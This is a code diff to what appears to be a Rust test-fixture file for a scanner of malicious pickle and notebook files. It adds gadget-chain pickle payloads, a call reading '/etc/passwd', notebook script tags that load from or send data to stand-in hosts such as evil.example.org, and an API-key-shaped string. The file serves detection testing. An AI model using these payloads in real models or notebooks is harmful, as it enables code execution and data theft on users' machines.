@@ -1,12 +1,10 @@
 //! What files of honest tools import, as those wrote them, and honest files beside the ways through that scanners were
 //! told of; and the ways that lie nearest to those.
 
-#![expect(clippy::too_many_lines, reason = "a list of samples, a line each")]
-
 use std::collections::BTreeMap;
 
 use super::{
-    Level, Sample,
+    Adding, Level, Sample, adding,
     made::{call, global, of, one, pickle, text, torch, zip},
 };
 
@@ -29,10 +27,8 @@ fn shown(html: &str) -> String {
 
 const KEY: &str = "AIzaSyD4k9vQ2mT7xW1pL8rB5nC3hJ6gF0eUzYa";
 
-pub(crate) fn benign(samples: &mut Vec<Sample>) {
-    let mut add = |name: &str, files: Vec<(String, Vec<u8>)>| {
-        samples.push(Sample::owned(Level::Clean, name, files));
-    };
+/// The names of each package, in one pickle.
+fn names(add: &mut Adding) {
     let mut packages: BTreeMap<&str, Vec<u8>> = BTreeMap::new();
     for (module, name) in NAMES.lines().skip(1).filter_map(|row| row.split_once('\t')) {
         let package = module.split('.').next().unwrap_or(module);
@@ -48,6 +44,11 @@ pub(crate) fn benign(samples: &mut Vec<Sample>) {
         add(&format!("names of {package}"), one("model.pkl", &object));
         add(&format!("names of {package} for torch"), one("extra.pt", torch(&object)));
     }
+}
+
+pub(crate) fn benign(samples: &mut Vec<Sample>) {
+    let mut add = adding(samples, Level::Clean);
+    names(&mut add);
     let method = pickle(attribute(global("builtins", "str"), "split"));
     add("a method of a text, kept", one("a.pkl", method));
     let vectorizer = [
@@ -58,6 +59,8 @@ pub(crate) fn benign(samples: &mut Vec<Sample>) {
         "a method of an object, kept",
         one("a.pkl", pickle(attribute(vectorizer.concat(), "_word_ngrams"))),
     );
+    let over = call(global("builtins", "iter"), &[b"](K\x01K\x02e".to_vec()]);
+    add("one over a list", one("a.pkl", pickle(over)));
     let none = call(global("builtins", "type"), &[b"N".to_vec()]);
     add("the type of nothing", one("a.pkl", pickle(none)));
     for html in [
@@ -157,6 +160,9 @@ pub(crate) fn dangerous(samples: &mut Vec<Sample>) {
         ],
     );
     add("a method that is handed on", rebuilt);
+    let part = call(global("functools", "partial"), &[method(), text("@x")]);
+    let over = call(global("builtins", "iter"), &[part, b"N".to_vec()]);
+    add("a method that is called over and over", call(global("collections", "deque"), &[over]));
     add("a private attribute of an object", attribute(frame(), "__class__"));
     add("a method by which files are written", attribute(global("numpy", "ndarray"), "tofile"));
     add("the type of a module", call(global("builtins", "type"), &[global("numpy", "random")]));
@@ -168,9 +174,7 @@ pub(crate) fn dangerous(samples: &mut Vec<Sample>) {
 }
 
 pub(crate) fn suspicious(samples: &mut Vec<Sample>) {
-    let mut add = |name: &str, files: Vec<(String, Vec<u8>)>| {
-        samples.push(Sample::owned(Level::Suspicious, name, files));
-    };
+    let mut add = adding(samples, Level::Suspicious);
     for html in [
         "<script src='//evil.example.org/x.js'></script>",
         "<script>fetch('https://a.example.org/?' + document.title)</script>",
@@ -178,6 +182,22 @@ pub(crate) fn suspicious(samples: &mut Vec<Sample>) {
         "<svg><script>eval(atob(x))</script></svg>",
     ] {
         add("a notebook whose output acts", one("demo.ipynb", shown(html)));
+    }
+    // packages that are known, and what they are not known for
+    for object in [
+        call(global("timm.layers.norm", "LayerNorm"), &[text("/etc/passwd")]),
+        call(global("optuna.samplers", "make"), &[text("x")]),
+        [
+            global("gensim.models.tfidfmodel", "df2idf"),
+            call(
+                global("builtins", "iter"),
+                &[global("gensim.models.tfidfmodel", "df2idf"), b"N".to_vec()],
+            ),
+            b"\x86".to_vec(),
+        ]
+        .concat(),
+    ] {
+        add("a name of a known package", one("a.pkl", pickle(object)));
     }
     add("a key of Google", one("config.json", format!("{{\"key\": \"{KEY}\"}}")));
     let program = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0>\0";
